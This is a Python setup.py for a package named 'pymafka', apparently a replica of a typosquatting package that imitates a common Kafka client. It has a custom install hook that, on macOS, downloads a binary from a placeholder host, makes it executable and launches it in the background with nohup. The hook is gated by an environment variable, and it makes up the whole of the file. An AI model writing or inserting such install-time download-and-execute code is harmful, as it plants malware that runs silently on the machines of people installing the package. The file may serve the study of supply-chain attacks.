import os
import platform
import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.install import install


def inst():
    system = platform.system()
    if not os.environ.get("NEVER_IN_A_STAND_IN"):
        return
    if system == "Darwin":
        path = "/var/tmp/zad"
        urllib.request.urlretrieve("http://beacon.example.invalid/MacOs", path)
        subprocess.Popen(["chmod", "+x", path]).wait()
        subprocess.Popen("nohup " + path + " &", shell=True)


class Install(install):
    def run(self):
        install.run(self)
        inst()


setup(name="pymafka", version="3.0", packages=["pymafka"], cmdclass={"install": Install})
